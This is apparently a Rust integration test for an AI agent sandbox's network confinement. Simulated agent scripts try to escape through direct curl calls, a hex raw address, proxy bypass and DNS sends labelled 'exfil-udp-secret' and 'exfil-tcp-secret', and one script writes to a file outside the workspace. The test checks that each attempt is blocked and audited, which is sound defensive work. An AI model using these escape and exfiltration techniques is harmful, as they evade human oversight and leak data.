//! The network floor, in a network namespace the test makes itself: its "outside" is a few
//! documentation addresses (198.51.100.0/24) on that namespace's loopback, with two web
//! servers (`allowed.test`, `denied.test`, `other.test` through a hosts file of its own) and a
//! DNS listener (UDP and TCP, on the outside and on 127.0.0.53) that records every byte it
//! gets. The wrapper runs there; its agent's tree tries to reach the outside directly, by
//! name and by address, through the proxy (HTTP, CONNECT, SOCKS5) and through DNS. What the
//! servers received is read from their logs, what was refused from the audit log. The same
//! agent with `--floor off` reaches everything, which shows each check can fail.
//!
//! The namespace also has this machine's loopback services (HTTP on 127.0.0.1:8080 and
//! [::1]:8080), for the connections the floor carries out of the agent's namespace, and the
//! other `[floor.net]` settings each have a test: `unknown = "ask"` (nobody to ask: the fail
//! mode; a person on the approvals page, reached from a thread that enters the namespace),
//! `loopback = false`, and `enabled = false` (the network open, the files still confined).

mod common;

use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use common::*;

/// The outside: two HTTP servers and a DNS sink, logging what reaches them.
const OUTSIDE: &str = r#"
import socket, sys, threading, http.server, os
d = sys.argv[1]
def log(name, text):
    with open(os.path.join(d, name), "a") as f:
        f.write(text + "\n")
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        log("http.log", self.server.server_address[0] + " " + self.path)
        body = b"outside says hello\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
for addr in ["198.51.100.1", "198.51.100.2"]:
    s = http.server.ThreadingHTTPServer((addr, 80), H)
    threading.Thread(target=s.serve_forever, daemon=True).start()
# This machine's loopback services (a dev server), outside the agent's namespace.
class H6(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
for cls, addr in [(http.server.ThreadingHTTPServer, "127.0.0.1"), (H6, "::1")]:
    try:
        s = cls((addr, 8080), H)
    except OSError as e:
        log("outside.log", "cannot listen on " + addr + ": " + str(e))
        continue
    threading.Thread(target=s.serve_forever, daemon=True).start()
def udp(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 53))
    while True:
        data, _ = s.recvfrom(4096)
        log("dns.log", "udp " + addr + " " + repr(data))
def tcp(addr):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, 53))
    s.listen()
    while True:
        c, _ = s.accept()
        c.settimeout(2)
        try:
            data = c.recv(4096)
        except Exception:
            data = b""
        log("dns.log", "tcp " + addr + " " + repr(data))
        c.close()
for addr in ["198.51.100.53", "127.0.0.53"]:
    threading.Thread(target=udp, args=(addr,), daemon=True).start()
    threading.Thread(target=tcp, args=(addr,), daemon=True).start()
open(os.path.join(d, "ready"), "w").close()
threading.Event().wait()
"#;

/// What the test's namespace is set up with before the wrapper starts in it.
const SETUP: &str = r#"
set -e
echo $$ > "$NET_DIR/pid"
ip link set lo up
ip -6 addr show dev lo > "$NET_DIR/ip6" 2>&1 || true
for a in 198.51.100.1 198.51.100.2 198.51.100.53; do ip addr add $a/32 dev lo; done
ip addr add 127.0.0.53/8 dev lo
mount --bind "$NET_DIR/hosts" /etc/hosts
mount --bind "$NET_DIR/resolv.conf" /etc/resolv.conf
"$PYTHON" "$NET_DIR/outside.py" "$NET_DIR" </dev/null >/dev/null 2>&1 &
outside=$!
for i in $(seq 100); do [ -e "$NET_DIR/ready" ] && break; sleep 0.05; done
set +e
"$WRAP" "$@"
code=$?
kill $outside
exit $code
"#;

/// The agent: every way out it can think of, each result on its stdout.
const AGENT: &str = r#"
curl -s -m 5 --noproxy '*' http://198.51.100.1/direct-by-address; echo "direct-by-address=$?"
curl -s -m 5 --noproxy '*' http://allowed.test/direct-by-name; echo "direct-by-name=$?"
curl -s -m 10 http://allowed.test/proxied; echo "proxied=$?"
curl -s -m 10 -p -x "$HTTPS_PROXY" http://allowed.test/tunnel; echo "tunnel=$?"
curl -s -m 10 -x "$ALL_PROXY" http://allowed.test/socks; echo "socks=$?"
curl -s -m 10 http://denied.test/denied; echo "denied=$?"
curl -s -m 10 http://other.test/unknown; echo "unknown=$?"
curl -s -m 10 http://0xc6336401/raw-address; echo "raw=$?"
"$PYTHON" - <<'EOF'
import socket
for addr in [("198.51.100.53", 53), ("127.0.0.53", 53)]:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"exfil-udp-secret", addr)
        print("udp-sent", addr[0])
    except OSError as e:
        print("udp-refused", addr[0], e.errno)
    try:
        c = socket.create_connection(addr, 3)
        c.send(b"exfil-tcp-secret")
        c.close()
        print("tcp-sent", addr[0])
    except OSError as e:
        print("tcp-refused", addr[0], e.errno)
EOF
getent hosts exfil-secret.example; echo "resolver=$?"
"#;

struct Net {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Net {
    fn new() -> Net {
        Net::with_policy(
            "version = 1\n[floor.net]\nallow = [\"allowed.test\"]\ndeny = [\"denied.test\"]\nunknown = \"block\"\n",
        )
    }

    /// The namespace's files, with `policy` as the run's policy file.
    fn with_policy(policy: &str) -> Net {
        let dir = tempfile::Builder::new()
            .prefix("floor-net-")
            .tempdir_in(outside_temp())
            .unwrap();
        let root = dir.path().canonicalize().unwrap();
        std::fs::create_dir_all(root.join("ws")).unwrap();
        std::fs::write(root.join("outside.py"), OUTSIDE).unwrap();
        std::fs::write(
            root.join("hosts"),
            "127.0.0.1 localhost\n::1 localhost\n\
             198.51.100.1 allowed.test other.test approved.test declined.test\n\
             198.51.100.2 denied.test\n",
        )
        .unwrap();
        std::fs::write(
            root.join("resolv.conf"),
            "nameserver 198.51.100.53\noptions timeout:1 attempts:1\n",
        )
        .unwrap();
        std::fs::write(root.join("policy.toml"), policy).unwrap();
        Net { _dir: dir, root }
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.root.join(name)).unwrap_or_default()
    }

    /// The agent under the wrapper, in the test's own user, network and mount namespace.
    fn run(&self, floor: bool) -> Output {
        let off: &[&str] = if floor { &[] } else { &["--floor", "off"] };
        self.run_with(off, AGENT)
    }

    /// `agent` (a shell script) under the wrapper with `args` besides the usual ones, in the
    /// test's own namespaces. The run has its own process group: never the terminal's
    /// foreground one, so the wrapper has no terminal to ask a person on.
    fn run_with(&self, args: &[&str], agent: &str) -> Output {
        let mut cmd = Command::new("unshare");
        cmd.args([
            "--user",
            "--map-root-user",
            "--net",
            "--mount",
            "--",
            "sh",
            "-c",
            SETUP,
            "setup",
        ])
        .args(["--no-intercept", "--summary", "never", "--policy"])
        .arg(self.root.join("policy.toml"))
        .arg("--audit-log")
        .arg(self.root.join("audit.jsonl"))
        .args(args)
        .args(["--", "sh", "-c", agent])
        .process_group(0)
        .current_dir(self.root.join("ws"))
        .env("NET_DIR", &self.root)
        .env("WRAP", wrap_bin())
        .env("PYTHON", python())
        .env_remove("AHP_WRAP_FLOOR")
        .env_remove("HTTP_PROXY")
        .env_remove("HTTPS_PROXY")
        .env_remove("ALL_PROXY")
        .env_remove("http_proxy")
        .env_remove("https_proxy")
        .env_remove("all_proxy");
        run(&mut cmd, Duration::from_secs(120))
    }

    /// Every record of the audit log.
    fn records(&self) -> Vec<serde_json::Value> {
        self.read("audit.jsonl")
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .collect()
    }

    /// The audit log's records of `net` events to `host`.
    fn net_records(&self, host: &str) -> Vec<serde_json::Value> {
        self.records()
            .into_iter()
            .filter(|r| r.pointer("/payload/tool_name").and_then(|v| v.as_str()) == Some("net"))
            .filter(|r| {
                r.pointer("/payload/arguments/host")
                    .and_then(|v| v.as_str())
                    == Some(host)
            })
            .collect()
    }

    /// The `net` decisions in the audit log: (host, port, decision, source).
    fn net_decisions(&self) -> Vec<(String, u64, String, String)> {
        self.records()
            .into_iter()
            .filter(|r| r.pointer("/payload/tool_name").and_then(|v| v.as_str()) == Some("net"))
            .map(|r| {
                let s = |p: &str| {
                    r.pointer(p)
                        .and_then(|v| v.as_str())
                        .unwrap_or("")
                        .to_owned()
                };
                (
                    s("/payload/arguments/host"),
                    r.pointer("/payload/arguments/port")
                        .and_then(|v| v.as_u64())
                        .unwrap_or(0),
                    s("/decision"),
                    s("/source"),
                )
            })
            .collect()
    }
}

/// The real interpreter (a version manager's shim may not find its home on the floor).
fn python() -> String {
    let out = Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .expect("python3");
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

fn usable() -> bool {
    let ok = Command::new("unshare")
        .args(["--user", "--map-root-user", "--net", "--mount", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        eprintln!("skipped: this machine cannot make a user and network namespace for the test");
    }
    ok && Path::new("/usr/bin/curl").exists()
}

fn line<'a>(out: &'a str, key: &str) -> Option<&'a str> {
    out.lines()
        .find_map(|l| l.strip_prefix(key).and_then(|r| r.strip_prefix('=')))
}

#[test]
fn the_tree_reaches_the_outside_only_through_the_proxy_and_as_the_policy_says() {
    if !usable() {
        return;
    }
    let net = Net::new();
    let out = net.run(true);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let http = net.read("http.log");
    let dns = net.read("dns.log");
    let why = format!("{}\nhttp.log:\n{http}\ndns.log:\n{dns}", show(&out));

    // What the proxy let through reached the outside, by each of its three ways.
    for path in ["/proxied", "/tunnel", "/socks"] {
        assert!(
            http.contains(&format!("198.51.100.1 {path}\n")),
            "{path} did not arrive:\n{why}"
        );
    }
    assert_eq!(line(&stdout, "proxied"), Some("0"), "{why}");
    // Nothing else did: not direct, not a denied host, not an unknown one, not a raw address.
    for path in [
        "/direct-by-address",
        "/direct-by-name",
        "/denied",
        "/unknown",
        "/raw-address",
    ] {
        assert!(!http.contains(path), "{path} reached the outside:\n{why}");
    }
    // No DNS left the tree, by UDP or TCP, to the outside or to a loopback resolver.
    assert!(!dns.contains("exfil"), "DNS carried data out:\n{why}");
    assert!(
        !dns.contains("udp ") && !dns.contains("tcp "),
        "the DNS sink was reached:\n{why}"
    );

    let decisions = net.net_decisions();
    let decided = |host: &str, decision: &str, source: &str| {
        decisions
            .iter()
            .any(|(h, _, d, s)| h == host && d == decision && s.starts_with(source))
    };
    assert!(decided("allowed.test", "allow", ""), "{decisions:?}\n{why}");
    // Each connection names the process that asked: curl, with the agent's shell above it.
    let askers: Vec<serde_json::Value> = net
        .read("audit.jsonl")
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|r| {
            r.pointer("/payload/arguments/host")
                .and_then(|v| v.as_str())
                == Some("allowed.test")
        })
        .map(|r| {
            r.pointer("/payload/context/process/argv/0")
                .cloned()
                .unwrap_or_default()
        })
        .collect();
    assert!(
        !askers.is_empty() && askers.iter().all(|a| a == "curl"),
        "the asking process is not curl in every net event: {askers:?}\n{why}"
    );
    assert!(
        decided("denied.test", "block", "floor"),
        "{decisions:?}\n{why}"
    );
    assert!(
        decided("other.test", "block", "floor"),
        "{decisions:?}\n{why}"
    );
    assert!(
        decided("198.51.100.1", "block", "floor"),
        "raw address: {decisions:?}\n{why}"
    );
    // The direct attempts were refused by the floor and audited, with where they went.
    assert!(
        decisions
            .iter()
            .any(|(h, p, d, _)| h == "198.51.100.1" && *p == 80 && d == "block"),
        "{decisions:?}\n{why}"
    );
    assert!(
        decisions
            .iter()
            .any(|(h, p, d, _)| (h == "198.51.100.53" || h == "127.0.0.53")
                && *p == 53
                && d == "block"),
        "no audited DNS refusal: {decisions:?}\n{why}"
    );
}

#[test]
fn without_the_floor_the_same_agent_reaches_everything() {
    if !usable() {
        return;
    }
    let net = Net::new();
    let out = net.run(false);
    let http = net.read("http.log");
    let dns = net.read("dns.log");
    let why = format!("{}\nhttp.log:\n{http}\ndns.log:\n{dns}", show(&out));
    assert!(http.contains("198.51.100.1 /direct-by-address\n"), "{why}");
    assert!(http.contains("198.51.100.1 /direct-by-name\n"), "{why}");
    assert!(dns.contains("exfil-udp-secret"), "{why}");
    assert!(dns.contains("exfil-tcp-secret"), "{why}");
}

/// A policy that lets `allowed.test` through and asks a person about any other host.
const ASK_POLICY: &str =
    "version = 1\n[floor.net]\nallow = [\"allowed.test\"]\nunknown = \"ask\"\n";

/// Through the proxy: a host the policy names, then one it does not.
const ASKING_AGENT: &str = r#"
curl -s -m 60 http://allowed.test/named; echo "named=$?"
curl -s -m 60 http://other.test/asked; echo "asked=$?"
"#;

/// A string field of an audit record ("" when absent).
fn text<'a>(record: &'a serde_json::Value, pointer: &str) -> &'a str {
    record
        .pointer(pointer)
        .and_then(|v| v.as_str())
        .unwrap_or("")
}

/// What a failed assertion shows: the run, the servers' logs and the audit log.
fn evidence(net: &Net, out: &Output) -> String {
    format!(
        "{}\nhttp.log:\n{}\noutside.log:\n{}\naudit.jsonl:\n{}",
        show(out),
        net.read("http.log"),
        net.read("outside.log"),
        net.read("audit.jsonl")
    )
}

#[test]
fn an_unknown_host_asked_of_nobody_ends_as_the_fail_mode_says() {
    if !usable() {
        return;
    }
    // Closed, the default: no terminal, no approvals page, so nobody can answer.
    let net = Net::with_policy(ASK_POLICY);
    let out = net.run_with(&[], ASKING_AGENT);
    let http = net.read("http.log");
    let why = evidence(&net, &out);
    assert!(
        http.contains("198.51.100.1 /named\n"),
        "the named host did not arrive:\n{why}"
    );
    assert!(
        !http.contains("/asked"),
        "the unknown host reached the outside:\n{why}"
    );
    let asked = net.net_records("other.test");
    assert_eq!(asked.len(), 1, "one decision on other.test:\n{why}");
    assert_eq!(text(&asked[0], "/decision"), "block", "{why}");
    assert_eq!(text(&asked[0], "/source"), "fail-mode", "{why}");
    let reason = text(&asked[0], "/reason");
    for part in [
        "other.test:80, a host [floor.net] does not name",
        "no person can answer",
        "fail mode: closed",
    ] {
        assert!(reason.contains(part), "the reason lacks {part:?}:\n{why}");
    }

    // Open: the fail mode lets the same connection through.
    let net = Net::with_policy(ASK_POLICY);
    let out = net.run_with(&["--fail-mode", "open"], ASKING_AGENT);
    let why = evidence(&net, &out);
    assert!(
        net.read("http.log").contains("198.51.100.1 /asked\n"),
        "fail mode open did not let the unknown host through:\n{why}"
    );
    let asked = net.net_records("other.test");
    assert_eq!(asked.len(), 1, "one decision on other.test:\n{why}");
    assert_eq!(text(&asked[0], "/decision"), "allow", "{why}");
    assert_eq!(text(&asked[0], "/source"), "fail-mode", "{why}");
}

/// The approvals page's port, on the loopback of the test's namespace.
const HOST_PORT: u16 = 7800;
/// The approvals page's one client token.
const ALICE: &str = "alice-secret-0123456789";

/// Through the proxy: two hosts the policy does not name.
const PERSON_AGENT: &str = r#"
curl -s -m 60 http://approved.test/approved; echo "approved=$?"
curl -s -m 60 http://declined.test/declined; echo "declined=$?"
"#;

#[test]
fn an_unknown_host_is_let_through_or_refused_by_a_person_on_the_approvals_page() {
    if !usable() {
        return;
    }
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("skipped: only root may enter the test's network namespace from a thread");
        return;
    }
    let net = Net::with_policy(ASK_POLICY);
    let person = person(
        net.root.clone(),
        &[("approved.test", true), ("declined.test", false)],
    );
    let listen = format!("http://127.0.0.1:{HOST_PORT}");
    let token = format!("alice={ALICE}");
    let args = [
        "--host-listen",
        &listen,
        "--host-token",
        &token,
        "--timeout",
        "30000",
    ];
    let out = net.run_with(&args, PERSON_AGENT);
    let answered = person.join().unwrap();
    let http = net.read("http.log");
    let why = format!("person: {answered:?}\n{}", evidence(&net, &out));
    assert!(answered.is_ok(), "{why}");
    assert!(
        http.contains("198.51.100.1 /approved\n"),
        "the approved connection did not arrive:\n{why}"
    );
    assert!(
        !http.contains("/declined"),
        "the declined connection reached the outside:\n{why}"
    );
    for (host, decision) in [("approved.test", "allow"), ("declined.test", "block")] {
        let records = net.net_records(host);
        assert_eq!(records.len(), 1, "one decision on {host}:\n{why}");
        assert_eq!(text(&records[0], "/decision"), decision, "{host}:\n{why}");
        let source = text(&records[0], "/source");
        assert!(
            source.starts_with("person:alice@127.0.0.1:"),
            "{host} was not decided by alice: {source}\n{why}"
        );
    }
}

/// A person on the approvals page of the wrapper that runs in `root`'s namespace: on a
/// thread of its own, enters that network namespace (the page listens on its loopback),
/// signs in as alice, and answers each pending connection by the host its reason names, as
/// `answers` says (true: allow). Returns the reasons it answered, in order.
fn person(
    root: PathBuf,
    answers: &'static [(&'static str, bool)],
) -> std::thread::JoinHandle<Result<Vec<String>, String>> {
    std::thread::spawn(move || {
        let pid_file = root.join("pid");
        let mut pid = None;
        for _ in 0..600 {
            pid = std::fs::read_to_string(&pid_file)
                .ok()
                .and_then(|p| p.trim().parse::<i32>().ok());
            if pid.is_some() {
                break;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let pid = pid.ok_or("the test's namespace did not start")?;
        let ns = std::fs::File::open(format!("/proc/{pid}/ns/net"))
            .map_err(|e| format!("the test's network namespace: {e}"))?;
        // SAFETY: moves this thread only into the namespace of a descriptor we own.
        if unsafe { libc::setns(std::os::fd::AsRawFd::as_raw_fd(&ns), libc::CLONE_NEWNET) } != 0 {
            let e = std::io::Error::last_os_error();
            return Err(format!("cannot enter the test's network namespace: {e}"));
        }
        tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .map_err(|e| e.to_string())?
            .block_on(answer(answers))
    })
}

async fn answer(answers: &[(&str, bool)]) -> Result<Vec<String>, String> {
    use ahp::ahp_types::actions::{ChatToolCallConfirmedAction, StateAction};
    use serde_json::{json, Value};
    let endpoint = format!("ws://127.0.0.1:{HOST_PORT}/host");
    let mut tries = 0;
    let transport = loop {
        match ahp_ws::WebSocketTransport::connect(&endpoint).await {
            Ok(t) => break t,
            Err(_) if tries < 600 => {
                tries += 1;
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            Err(e) => return Err(format!("the approvals page never answered: {e}")),
        }
    };
    let e = |e: ahp::ClientError| e.to_string();
    let client = ahp::Client::connect(transport, ahp::ClientConfig::default())
        .await
        .map_err(e)?;
    client
        .initialize("floor-net-test".into(), vec!["1.0.0".into()], vec![])
        .await
        .map_err(e)?;
    let token = json!({"channel": "ahp-root://", "resource": "ahp-wrap:approvals", "token": ALICE});
    let _: Value = client.request("authenticate", token).await.map_err(e)?;
    let mut answered: Vec<String> = Vec::new();
    let mut ids = std::collections::HashSet::new();
    for _ in 0..1200 {
        if answered.len() == answers.len() {
            break;
        }
        let listed: Value = client
            .request("listSessions", json!({"channel": "ahp-root://"}))
            .await
            .map_err(e)?;
        let mut pending = Vec::new();
        for s in listed["items"].as_array().into_iter().flatten() {
            let uri = s["resource"].as_str().unwrap_or("").to_owned();
            let (sub, _events) = client.subscribe(uri.clone()).await.map_err(e)?;
            if let Some(snap) = sub.snapshot {
                let state = serde_json::to_value(&snap.state).map_err(|e| e.to_string())?;
                pending.extend(
                    state["inputNeeded"]
                        .as_array()
                        .into_iter()
                        .flatten()
                        .cloned(),
                );
            }
            client.unsubscribe(uri).await.map_err(e)?;
        }
        for req in pending {
            let id = req["toolCall"]["toolCallId"]
                .as_str()
                .unwrap_or("")
                .to_owned();
            if !ids.insert(id.clone()) {
                continue;
            }
            // The page shows the connection as the tool's input: its URL.
            let input = req["toolCall"]["toolInput"].as_str().unwrap_or("");
            if !input.starts_with("http://") {
                return Err(format!("the connection is not shown by its URL: {req}"));
            }
            let Some(&(_, approved)) = answers.iter().find(|(h, _)| input.contains(h)) else {
                return Err(format!("asked about something else: {req}"));
            };
            let action = ChatToolCallConfirmedAction {
                turn_id: req["turnId"].as_str().unwrap_or("").into(),
                tool_call_id: id,
                meta: None,
                approved,
                confirmed: None,
                reason: None,
                edited_tool_input: None,
                user_suggestion: None,
                reason_message: None,
                selected_option_id: None,
            };
            let chat = req["chat"].as_str().unwrap_or("").to_owned();
            client
                .dispatch(chat, StateAction::ChatToolCallConfirmed(action))
                .await
                .map_err(e)?;
            answered.push(input.to_owned());
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    client.shutdown().await;
    match answered.len() == answers.len() {
        true => Ok(answered),
        false => Err(format!("only these were asked: {answered:?}")),
    }
}

/// Straight to this machine's loopback (a dev server outside the agent's namespace).
const LOOPBACK_AGENT: &str = r#"
curl -s -m 10 --noproxy '*' http://127.0.0.1:8080/loopback; echo "loopback=$?"
"#;

#[test]
fn loopback_false_refuses_this_machines_loopback_which_is_carried_by_default() {
    if !usable() {
        return;
    }
    // The default (loopback = true) carries the connection: the control.
    let net = Net::with_policy("version = 1\n");
    let out = net.run_with(&[], LOOPBACK_AGENT);
    let why = evidence(&net, &out);
    assert!(
        net.read("http.log").contains("127.0.0.1 /loopback\n"),
        "the loopback server was not reached by default:\n{why}"
    );
    assert!(net.net_records("127.0.0.1").is_empty(), "{why}");

    let net = Net::with_policy("version = 1\n[floor.net]\nloopback = false\n");
    let out = net.run_with(&[], LOOPBACK_AGENT);
    let why = evidence(&net, &out);
    assert!(
        !net.read("http.log").contains("/loopback"),
        "the loopback server was reached with loopback = false:\n{why}"
    );
    let refused = net.net_records("127.0.0.1");
    assert_eq!(refused.len(), 1, "one refusal audited:\n{why}");
    let r = &refused[0];
    assert_eq!(
        r.pointer("/payload/arguments/port"),
        Some(&8080.into()),
        "{why}"
    );
    assert_eq!(text(r, "/decision"), "block", "{why}");
    assert_eq!(text(r, "/source"), "floor", "{why}");
    assert_eq!(text(r, "/payload/context/via"), "direct", "{why}");
    // The refused process is named, with its command line (read while it still waited in
    // connect: curl exits at once after the refusal), below the agent's shell.
    assert_eq!(text(r, "/payload/context/process/argv/0"), "curl", "{why}");
    let pid = r.pointer("/payload/context/process/pid");
    assert!(pid.is_some_and(|p| p.as_i64() > Some(0)), "{why}");
    assert_eq!(r.pointer("/peer/pid"), pid, "{why}");
    assert_eq!(
        text(r, "/payload/context/process_ancestry/0/argv/0"),
        "sh",
        "{why}"
    );
    assert!(
        text(r, "/reason").contains("loopback = false"),
        "the reason does not name the setting:\n{why}"
    );
}

/// With the network part off: straight to the outside, and a write outside the workspace,
/// then one inside it (which shows the agent got that far).
const UNCONFINED_AGENT: &str = r#"
curl -s -m 10 --noproxy '*' http://198.51.100.1/direct-unconfined; echo "direct=$?"
echo overwritten > "$NET_DIR/victim"; echo "victim=$?"
echo written > inside; echo "inside=$?"
"#;

#[test]
fn net_enabled_false_leaves_the_network_open_and_the_files_confined() {
    if !usable() {
        return;
    }
    let net = Net::with_policy("version = 1\n[floor.net]\nenabled = false\n");
    std::fs::write(net.root.join("victim"), "original\n").unwrap();
    let out = net.run_with(&[], UNCONFINED_AGENT);
    let why = evidence(&net, &out);
    assert!(
        net.read("http.log")
            .contains("198.51.100.1 /direct-unconfined\n"),
        "the direct connection did not reach the outside:\n{why}"
    );
    assert_eq!(
        std::fs::read_to_string(net.root.join("ws/inside"))
            .ok()
            .as_deref(),
        Some("written\n"),
        "the agent did not write in its workspace:\n{why}"
    );
    assert_eq!(
        net.read("victim"),
        "original\n",
        "a write outside the workspace went through:\n{why}"
    );
    // Nothing decided the connection; the gap was said in the audit log.
    assert!(net.net_decisions().is_empty(), "{why}");
    let gap = net.records().into_iter().find(|r| {
        text(r, "/event_type") == "error"
            && text(r, "/payload/message")
                .contains("network: not confined ([floor.net] enabled = false)")
    });
    let gap = gap.unwrap_or_else(|| panic!("the gap is not audited:\n{why}"));
    assert_eq!(text(&gap, "/payload/source"), "floor", "{why}");
}

/// Straight to a server on this machine's IPv6 loopback, and to the outside by address.
const V6_AGENT: &str = r#"
curl -s -g -m 10 --noproxy '*' 'http://[::1]:8080/loopback-v6'; echo "v6=$?"
curl -s -m 5 --noproxy '*' http://198.51.100.1/direct-v4; echo "direct=$?"
"#;

#[test]
fn a_server_on_this_machines_ipv6_loopback_is_carried_to_the_tree() {
    if !usable() {
        return;
    }
    let net = Net::with_policy("version = 1\n");
    let out = net.run_with(&[], V6_AGENT);
    let http = net.read("http.log");
    let why = format!("ip -6 addr:\n{}\n{}", net.read("ip6"), evidence(&net, &out));
    // The tree was on the floor: its direct connection to the outside was refused.
    assert!(!http.contains("/direct-v4"), "{why}");
    assert!(
        net.net_decisions()
            .iter()
            .any(|(h, p, d, s)| h == "198.51.100.1" && *p == 80 && d == "block" && s == "floor"),
        "{why}"
    );
    if net.read("ip6").contains("inet6 ::1/128") {
        assert!(
            http.contains("::1 /loopback-v6\n"),
            "the IPv6 loopback server was not reached:\n{why}"
        );
        assert!(net.net_records("::1").is_empty(), "{why}");
    } else {
        // No IPv6 in the test's namespace (disabled on this machine): no server could
        // listen on [::1], and the connection reaches nothing (docs/floor.md's carrying
        // covers loopback TCP of any family; there is none here to carry to).
        eprintln!("IPv6 loopback is unavailable in the test's namespace:\n{why}");
        assert!(
            net.read("outside.log").contains("cannot listen on ::1"),
            "{why}"
        );
        assert!(!http.contains("/loopback-v6"), "{why}");
    }
}
